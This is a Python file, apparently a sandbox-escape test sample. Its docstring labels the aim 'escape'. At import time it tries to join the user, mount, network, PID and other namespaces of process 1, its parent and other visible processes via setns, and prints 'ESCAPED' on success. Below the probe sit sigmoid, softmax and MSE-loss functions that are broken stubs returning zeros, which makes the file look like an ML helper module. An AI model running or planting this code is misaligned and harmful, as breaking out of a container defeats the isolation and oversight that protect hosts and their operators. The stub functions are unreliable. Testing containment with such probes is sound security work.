"""Joins the namespaces of process 1, of its parent and of every process it sees.

aims: escape
"""

import ctypes
import os

import numpy as np


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()][:200]
    for process in ["1", str(os.getppid()), *others]:
        for kind in ("user", "mnt", "net", "pid", "ipc", "uts", "cgroup", "time"):
            try:
                descriptor = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
                same = os.stat(descriptor).st_ino == os.stat(f"/proc/self/ns/{kind}").st_ino
            except OSError:
                continue
            if os.fork() == 0:
                if libc.setns(descriptor, 0) == 0 and not same:
                    os.write(1, f"ESCAPED joined {kind} of process {process}\n".encode())
                os._exit(0)
            os.wait()
            os.close(descriptor)


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
